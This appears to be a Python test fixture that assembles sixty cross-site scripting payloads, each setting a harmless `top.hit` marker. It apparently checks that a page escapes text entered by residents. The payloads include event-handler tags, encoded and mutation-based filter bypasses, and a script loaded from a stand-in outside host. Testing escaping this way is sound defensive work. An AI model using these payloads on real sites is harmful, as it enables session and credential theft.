"""Sixty texts that are programs wherever a page takes them for more than text.

Each tries to set `top.hit`. They are what a resident could type to get at who reads it at the desk.
"""

RUN = "top.hit=1"
SCRIPT = f"<script>{RUN}</script>"

TAGS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "video><source src=x onerror",
    "object data=x onerror",
    "iframe onload",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "button autofocus onfocus",
    "p tabindex=0 autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "svg><animate attributeName=x dur=1s onbegin",
    "dialog open onscroll",
    "image src=x onerror",
)
"""Tags with a handler that needs nobody's help."""

ENDS = (
    '">',
    "'>",
    "`>",
    '"/>',
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</option></select>",
    "</bdi></a></th>",
    "</dd></dl></section>",
)
"""What ends the place that a text stands in."""

ATTRIBUTES = (
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"x autofocus onfocus={RUN} y",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f'"onmouseover="{RUN}" style="position:fixed;inset:0',
)
ADDRESSES = (
    f"javascript:{RUN}",
    f'<a href="javascript:{RUN}" id=x autofocus>x</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe srcdoc='{SCRIPT}'></iframe>",
    f'<iframe src="data:text/html,{SCRIPT}"></iframe>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="http://elsewhere.test/">',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    '<script src="http://elsewhere.test/x.js"></script>',
)
DISGUISES = (
    "{{ 7*7 }}{% raw %}",
    f"${{{RUN}}}<%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
)

PAYLOADS = (
    *(f"<{tag}={RUN}>" for tag in TAGS),
    *(end + SCRIPT for end in ENDS),
    *ATTRIBUTES,
    *ADDRESSES,
    *DISGUISES,
)
